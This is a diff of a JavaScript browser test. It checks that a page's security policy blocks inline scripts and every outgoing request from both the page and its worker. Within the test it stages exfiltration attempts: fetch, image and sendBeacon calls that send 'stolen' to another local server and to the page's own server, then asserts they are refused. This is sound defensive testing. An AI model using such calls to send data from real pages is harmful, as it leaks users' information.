@@ -51,14 +51,28 @@ test('every request of the load goes to the site, and its folder alone', async (
   await server.close();
 });
 
-test('the policy stops inline scripts and other servers', async () => {
+test('the policy stops inline scripts, and every request once all is loaded, of page and worker', async () => {
+  const other = await serveSite(siteFolder, { path: '/' });
   const page = await open();
-  const verdict = await page.evaluate(async () => {
+  await loaded(page);
+  const inline = await page.evaluate(() => {
     const script = document.createElement('script');
     script.textContent = 'window.ran = true';
     document.head.append(script);
-    const sent = await fetch('https://example.com/').then(() => 'sent', () => 'refused');
-    return { ran: window.ran === true, sent };
+    return window.ran === true;
   });
-  assert.deepEqual(verdict, { ran: false, sent: 'refused' });
+  assert.equal(inline, false);
+  const before = page.site.requests.length;
+  const send = (address) => fetch(address).then(() => 'sent', () => 'refused');
+  const [worker] = page.workers();
+  assert.ok(worker, 'the engine runs in a worker');
+  for (const place of [page, worker]) {
+    assert.equal(await place.evaluate(send, `${other.address}?stolen`), 'refused');
+    assert.equal(await place.evaluate(send, `${page.site.address}?stolen`), 'refused', 'not even to its own server');
+  }
+  await page.evaluate((address) => { new Image().src = `${address}?stolen`; navigator.sendBeacon(address, 'stolen'); }, other.address);
+  await page.waitForTimeout(200);
+  assert.deepEqual(other.requests, []);
+  assert.deepEqual(page.site.requests.slice(before), []);
+  await other.close();
 });
